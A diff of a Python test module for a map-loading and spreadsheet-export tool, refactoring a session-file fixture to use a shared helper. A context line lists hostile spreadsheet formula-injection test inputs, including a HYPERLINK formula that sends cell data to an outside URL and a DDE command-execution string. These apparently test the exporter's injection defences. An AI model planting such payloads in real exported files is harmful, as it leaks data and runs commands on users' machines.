@@ -24,9 +24,9 @@ from click.testing import CliRunner, Result
 from graph import SystemMap
 from loaders import VLEUTEN, load_map, write_csv_folder, write_workbook, write_xlsx
 from loaders.errors import CannotWrite, WouldOverwrite
-from loaders.session_file import FORMAT
 from loaders.write import FORMULA_STARTS
 from tests.test_cycle_example import ROUND_1
+from tests.test_toets_import import saved
 from versterkt.cli import main
 
 HERE = Path(__file__).parent / "interchange"
@@ -425,30 +425,12 @@ HOSTILE = ['=HYPERLINK("http://example.org/?"&A1,"klik")', "+cmd|' /C calc'!A0",
 
 def session_file(tmp_path: Path, note: str, name: str = "Sociale media") -> Path:
     """A toets session saved by the map page: one remark, one proposed factor."""
-    path = tmp_path / "sessie.json"
-    path.write_text(
-        json.dumps(
-            {
-                "format": FORMAT,
-                "version": 1,
-                "map": "voorbeeld-cyclus",
-                "round": 1,
-                "session": "oudersessie",
-                "saved": "2026-12-01T09:00:00Z",
-                "entries": [
-                    {
-                        "link": "inv-verwachtingen-ouders-prestatiedruk",
-                        "group": "ouder",
-                        "verdict": "eens",
-                        "note": note,
-                    }
-                ],
-                "proposals": [{"kind": "factor", "group": "professional", "name": name}],
-            }
-        ),
-        "utf-8",
+    entry = {"link": "inv-verwachtingen-ouders-prestatiedruk", "group": "ouder"}
+    return saved(
+        tmp_path,
+        entries=[{**entry, "verdict": "eens", "note": note}],
+        proposals=[{"kind": "factor", "group": "professional", "name": name}],
     )
-    return path
 
 
 def xlsx_cells(path: Path, sheet: str) -> list[Any]:
